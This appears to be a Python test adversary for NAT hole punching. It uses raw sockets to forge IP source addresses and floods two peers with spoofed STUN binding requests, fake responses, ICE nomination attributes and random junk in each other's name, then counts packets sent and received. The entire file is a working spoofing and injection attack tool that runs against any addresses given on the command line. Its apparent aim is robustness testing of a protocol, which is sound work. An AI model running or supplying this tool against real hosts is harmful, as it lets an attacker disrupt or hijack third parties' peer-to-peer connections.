"""Who knows the addresses of two that punch, and their port, but not their key.

    python3 punch_enemy.py ADDRESS-A ADDRESS-B PORT SECONDS

Sends both of them STUN requests and answers in the other one's name, and in its own; tells how many,
and how many packets came back.
"""
import os
import signal
import socket
import struct
import sys
import time

a, b, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own.setblocking(False)
sent = heard = 0


def attribute(kind, value):
    return struct.pack(">HH", kind, len(value)) + value + bytes(-len(value) % 4)


def stun(kind, attributes):
    return struct.pack(">HHI", kind, len(attributes), 0x2112A442) + os.urandom(12) + attributes


def forgeries():
    mapped = attribute(0x0020, b"\0\1" + os.urandom(6))
    signed = attribute(0x001C, os.urandom(32)) + attribute(0x8028, os.urandom(4))
    request = attribute(0x0006, b"AAAAAAAA:BBBBBBBB") + attribute(0x0024, b"\x6e\0\1\xff")
    nominates = attribute(0x802A, os.urandom(8)) + attribute(0x0025, b"")
    return [stun(0x0001, b""), stun(0x0001, request + nominates + signed),
        stun(0x0101, mapped), stun(0x0101, mapped + signed), os.urandom(100)]


def send_as(source, target, data):
    udp = struct.pack(">HHHH", port, port, 8 + len(data), 0) + data
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    raw.sendto(head + socket.inet_aton(source) + socket.inet_aton(target) + udp, (target, 0))


def tell(*_):
    print(f"sent {sent}\nheard {heard}", flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, tell)
end = time.monotonic() + seconds
while time.monotonic() < end:
    for data in forgeries():
        send_as(a, b, data)
        send_as(b, a, data)
        for target in a, b:
            own.sendto(data, (target, port))
        sent += 4
    try:
        while own.recv(2000):
            heard += 1
    except OSError:
        pass
    time.sleep(0.02)
tell()
